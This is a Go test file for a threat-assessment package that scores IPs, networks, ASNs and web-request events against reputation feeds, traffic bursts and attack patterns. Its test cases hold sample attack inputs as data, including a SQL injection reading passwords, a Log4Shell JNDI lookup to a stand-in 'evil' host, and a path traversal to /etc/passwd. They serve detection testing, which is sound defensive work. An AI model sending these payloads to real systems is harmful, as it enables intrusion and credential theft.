package threat

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

func fixtureFeeds(t testing.TB) []*Feed {
	t.Helper()
	var out []*Feed
	for _, s := range []Spec{
		spec("level1", "firehol_level1.netset", FormatFireHOL),
		spec("drop", "drop.txt", FormatDROP),
		spec("asndrop", "asndrop.json", FormatASNDROP),
		spec("tor", "tor-bulk-exit-list.txt", FormatTorExits),
	} {
		out = append(out, mustLoad(t, s))
	}
	return out
}

func factor(a Assessment, id string) (Factor, bool) {
	for _, f := range a.Factors {
		if f.ID == id {
			return f, true
		}
	}
	return Factor{}, false
}

func TestReputation(t *testing.T) {
	feeds := fixtureFeeds(t)
	cases := []struct {
		name    string
		in      Input
		factors []string
		absent  []string
		score   int
		level   string
	}{
		{"drop and firehol", Input{IPs: []string{"1.10.16.5"}}, []string{"reputation:drop", "reputation:level1"}, nil, 80, "critical"},
		{"tor only", Input{IPs: []string{"185.220.101.4"}}, []string{"reputation:tor"}, []string{"reputation:drop"}, 15, "low"},
		{"asn", Input{ASNs: []string{"AS64511"}}, []string{"reputation:asndrop"}, nil, 40, "medium"},
		{"cidr overlap", Input{CIDRs: []string{"2.56.0.0/16"}}, []string{"reputation:drop"}, nil, 45, "medium"},
		{"clean", Input{IPs: []string{"8.8.8.8"}, ASNs: []string{"13335"}}, nil, []string{"reputation:drop", "reputation:level1"}, 0, "low"},
		{"bogon listed by firehol is not counted", Input{IPs: []string{"10.1.2.3", "192.168.1.1"}}, []string{"not-routable"}, []string{"reputation:level1"}, 0, "low"},
		{"duplicates counted once", Input{IPs: []string{"1.10.16.5", "1.10.16.5", "::ffff:1.10.16.5"}}, []string{"reputation:drop"}, nil, 80, "critical"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a, err := Assess(c.in, feeds)
			if err != nil {
				t.Fatal(err)
			}
			for _, id := range c.factors {
				if _, ok := factor(a, id); !ok {
					t.Errorf("factor %s missing: %+v", id, a.Factors)
				}
			}
			for _, id := range c.absent {
				if _, ok := factor(a, id); ok {
					t.Errorf("factor %s present: %+v", id, a.Factors)
				}
			}
			if a.Score != c.score || a.Level != c.level || len(a.Feeds) != 4 {
				t.Errorf("score %d %s (feeds %d), want %d %s", a.Score, a.Level, len(a.Feeds), c.score, c.level)
			}
		})
	}
	a, _ := Assess(Input{IPs: []string{"1.10.16.5"}}, feeds)
	f, _ := factor(a, "reputation:drop")
	if !strings.Contains(f.Detail, "SBL256894") || !strings.Contains(f.Detail, "snapshot 2026-11-20") {
		t.Errorf("detail %q lacks the SBL reference or snapshot date", f.Detail)
	}
	if a.Feeds[1].Snapshot != "2026-11-20T06:12:00Z" || a.Feeds[1].SnapshotSource != "header" {
		t.Errorf("feed info %+v", a.Feeds[1])
	}
	if len(a.Indicators) != 1 || len(a.Indicators[0].Matches) != 2 {
		t.Errorf("indicators %+v", a.Indicators)
	}
}

func TestNoFeedsConfigured(t *testing.T) {
	a, err := Assess(Input{IPs: []string{"1.10.16.5"}}, nil)
	if err != nil || a.Score != 0 || len(a.Notes) != 1 || !strings.Contains(a.Notes[0], "threat_intel.feeds") {
		t.Errorf("%+v %v", a, err)
	}
}

func at(base time.Time, sec int) string {
	return base.Add(time.Duration(sec) * time.Second).UTC().Format(time.RFC3339)
}

// steady returns n minutes of perMinute events each, starting at base.
func steady(base time.Time, minutes, perMinute int) []Event {
	var ev []Event
	for m := 0; m < minutes; m++ {
		for i := 0; i < perMinute; i++ {
			ev = append(ev, Event{IP: "8.8.4.4", Path: "/", Time: at(base, m*60+i*60/perMinute)})
		}
	}
	return ev
}

func TestBurstDetection(t *testing.T) {
	base := time.Date(2026, 11, 21, 8, 0, 0, 0, time.UTC)
	quiet := steady(base, 30, 2)
	spike := append(append([]Event{}, quiet...), steady(base.Add(30*time.Minute), 1, 60)...)
	mild := append(append([]Event{}, quiet...), steady(base.Add(30*time.Minute), 1, 4)...)
	cases := []struct {
		name     string
		in       Input
		points   int
		minZ     float64
		baseline string
	}{
		{"spike over ewma", Input{Events: spike}, 30, 8, "ewma"},
		{"steady traffic", Input{Events: quiet}, 0, 0, "ewma"},
		{"small rise", Input{Events: mild}, 0, 0, "ewma"},
		{"given baseline", Input{Events: mild, BaselinePerMinute: 0.2}, 20, 0, "given"},
		{"given baseline, normal rate", Input{Events: quiet, BaselinePerMinute: 2}, 0, 0, "given"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a, err := Assess(c.in, nil)
			if err != nil {
				t.Fatal(err)
			}
			f, ok := factor(a, "burst")
			if (c.points > 0) != ok || f.Points != c.points {
				t.Fatalf("burst factor %+v (present %v), want %d points; burst %+v", f, ok, c.points, a.Burst)
			}
			if a.Burst == nil || a.Burst.BaselineFrom != c.baseline || a.Burst.Z < c.minZ {
				t.Errorf("burst %+v", a.Burst)
			}
		})
	}
	a, _ := Assess(Input{Events: spike}, nil)
	if a.Burst.PeakAt != "2026-11-21T08:30:00Z" || a.Burst.PeakCount != 60 {
		t.Errorf("peak %+v", a.Burst)
	}
	short, _ := Assess(Input{Events: steady(base, 3, 5)}, nil)
	if short.Burst == nil || !strings.Contains(short.Burst.Note, "at least 6") {
		t.Errorf("short window: %+v", short.Burst)
	}
	// Long spans use wider buckets, never more than maxBuckets.
	long, _ := Assess(Input{Events: []Event{{Time: at(base, 0)}, {Time: at(base, 7*24*3600)}}}, nil)
	if long.Burst.Buckets > maxBuckets || long.Burst.BucketMinutes < 7 {
		t.Errorf("long span burst %+v", long.Burst)
	}
}

func TestEventContent(t *testing.T) {
	now := "2026-11-21T08:00:00Z"
	cases := []struct {
		name   string
		events []Event
		id     string
		points int
		detail string
	}{
		{"attack score", []Event{{WAFAttackScore: 12, Time: now}, {WAFAttackScore: 45, Time: now}}, "waf-attack-score", 30, "lowest 12"},
		{"likely attack", []Event{{WAFAttackScore: 35, Time: now}}, "waf-attack-score", 15, "likely_attack"},
		{"sqli", []Event{{Path: "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users", Time: now}}, "request-payloads", 20, "sqli"},
		{"log4shell", []Event{{Path: "/?x=${jndi:ldap://evil/a}", Time: now}}, "request-payloads", 25, "rce"},
		{"traversal", []Event{{Path: "/download?file=../../etc/passwd", Time: now}}, "request-payloads", 20, "path-traversal"},
		{"probe only", []Event{{Path: "/wp-login.php", Time: now}}, "request-payloads", 10, "probe"},
		{"scanner", []Event{{UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", Time: now}}, "client-tools", 15, "scanner-ua"},
		{"scripted", []Event{{UserAgent: "python-requests/2.31", Time: now}}, "client-tools", 5, "scripted-client-ua"},
		{"tor", []Event{{Country: "T1", Time: now}, {Country: "DE", Time: now}}, "tor-traffic", 10, "1 of 2 events came through Tor"},
		{"mitigated", []Event{{Action: "block", Time: now}, {Action: "managed_challenge", Time: now}, {Action: "allow", Time: now}}, "mitigated-by-cloudflare", 10, "2 of 3"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a, err := Assess(Input{Events: c.events}, nil)
			if err != nil {
				t.Fatal(err)
			}
			f, ok := factor(a, c.id)
			if !ok || f.Points != c.points || !strings.Contains(f.Detail, c.detail) {
				t.Errorf("factor %s = %+v (present %v), want %d points and %q; all %+v", c.id, f, ok, c.points, c.detail, a.Factors)
			}
		})
	}
	clean, _ := Assess(Input{Events: []Event{{Path: "/products/42", UserAgent: "Mozilla/5.0", WAFAttackScore: 90, Action: "allow", Time: now}}}, nil)
	if clean.Score != 0 || len(clean.Factors) != 0 {
		t.Errorf("benign event scored %d: %+v", clean.Score, clean.Factors)
	}
	var enum []Event
	for i := 0; i < 25; i++ {
		enum = append(enum, Event{IP: "8.8.4.4", Path: fmt.Sprintf("/p%d", i), Time: now})
	}
	a, _ := Assess(Input{Events: enum}, nil)
	if _, ok := factor(a, "path-enumeration"); !ok {
		t.Errorf("25 distinct paths from one IP not reported: %+v", a.Factors)
	}
	// Event IPs and ASNs are checked against the feeds too.
	r, _ := Assess(Input{Events: []Event{{IP: "1.10.16.9", ASN: "64511", Time: now}}}, fixtureFeeds(t))
	if _, ok := factor(r, "reputation:drop"); !ok {
		t.Errorf("event IP not checked: %+v", r.Factors)
	}
	if _, ok := factor(r, "reputation:asndrop"); !ok || !r.Indicators[0].FromEvents {
		t.Errorf("event ASN not checked: %+v", r)
	}
}

func TestScoreIsCapped(t *testing.T) {
	base := time.Date(2026, 11, 21, 8, 0, 0, 0, time.UTC)
	ev := steady(base, 30, 1)
	for i := 0; i < 80; i++ {
		ev = append(ev, Event{IP: "1.10.16.5", Path: "/?id=1' or '1'='1", UserAgent: "sqlmap/1.7", WAFAttackScore: 3, Action: "block", Time: at(base, 30*60+i/2)})
	}
	a, err := Assess(Input{Events: ev, ASNs: []string{"AS64511"}}, fixtureFeeds(t))
	if err != nil {
		t.Fatal(err)
	}
	sum := 0
	for _, f := range a.Factors {
		sum += f.Points
	}
	if a.Score != 100 || sum <= 100 || a.Level != "critical" {
		t.Errorf("score %d (factor sum %d)", a.Score, sum)
	}
	for i := 1; i < len(a.Factors); i++ {
		if a.Factors[i].Points > a.Factors[i-1].Points {
			t.Errorf("factors not sorted by points: %+v", a.Factors)
		}
	}
}

func TestAssessRejections(t *testing.T) {
	many := make([]string, MaxIndicators+1)
	for i := range many {
		many[i] = fmt.Sprintf("8.8.%d.%d", i/256, i%256)
	}
	cases := []struct {
		name string
		in   Input
		want string
	}{
		{"nothing", Input{}, "nothing to assess; pass ips, cidrs, asns and/or events"},
		{"bad ip", Input{IPs: []string{"8.8.8.8", "1.2.3"}}, `ips[1] "1.2.3" is not an IP address`},
		{"network in ips", Input{IPs: []string{"10.0.0.0/8"}}, "networks go in cidrs"},
		{"bad cidr", Input{CIDRs: []string{"10.0.0.0/33"}}, `cidrs[0] "10.0.0.0/33" is not a network`},
		{"cidr too broad", Input{CIDRs: []string{"0.0.0.0/0"}}, "cidrs[0] 0.0.0.0/0 is broader than /8"},
		{"ipv6 cidr too broad", Input{CIDRs: []string{"2000::/3"}}, "is broader than /16"},
		{"bad asn", Input{ASNs: []string{"ASX"}}, `asns[0] "ASX" is not an AS number; pass AS64496 or 64496`},
		{"zero asn", Input{ASNs: []string{"0"}}, "is not an AS number"},
		{"too many", Input{IPs: many}, fmt.Sprintf("at most %d are accepted", MaxIndicators)},
		{"too many events", Input{Events: make([]Event, MaxEvents+1)}, fmt.Sprintf("at most %d are accepted", MaxEvents)},
		{"event without time", Input{Events: []Event{{IP: "8.8.8.8"}}}, `events[0].time "" is not an RFC 3339 time`},
		{"event bad time", Input{Events: []Event{{Time: "yesterday"}}}, `events[0].time "yesterday"`},
		{"event bad ip", Input{Events: []Event{{IP: "x", Time: "2026-11-21T08:00:00Z"}}}, `events[0].ip "x" is not an IP address`},
		{"event bad asn", Input{Events: []Event{{ASN: "cloudflare", Time: "2026-11-21T08:00:00Z"}}}, `events[0].asn "cloudflare"`},
		{"event country", Input{Events: []Event{{Country: "Germany", Time: "2026-11-21T08:00:00Z"}}}, `events[0].country "Germany" is not a two-letter country code`},
		{"event score range", Input{Events: []Event{{WAFAttackScore: 150, Time: "2026-11-21T08:00:00Z"}}}, "waf_attack_score 150 is out of range; accepted 1-99"},
		{"event long path", Input{Events: []Event{{Path: strings.Repeat("a", maxFieldBytes+1), Time: "2026-11-21T08:00:00Z"}}}, "limited to 4096 bytes"},
		{"negative baseline", Input{Events: []Event{{Time: "2026-11-21T08:00:00Z"}}, BaselinePerMinute: -1}, "baseline_per_minute must be a positive number"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Assess(c.in, nil)
			var ie *InputError
			if !errors.As(err, &ie) || !strings.Contains(err.Error(), c.want) {
				t.Errorf("err = %v, want %q", err, c.want)
			}
		})
	}
}

func BenchmarkAssess(b *testing.B) {
	feeds := fixtureFeeds(b)
	base := time.Date(2026, 11, 21, 8, 0, 0, 0, time.UTC)
	ev := steady(base, 60, 5)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Assess(Input{Events: ev, IPs: []string{"1.10.16.5", "185.220.101.4"}}, feeds); err != nil {
			b.Fatal(err)
		}
	}
}
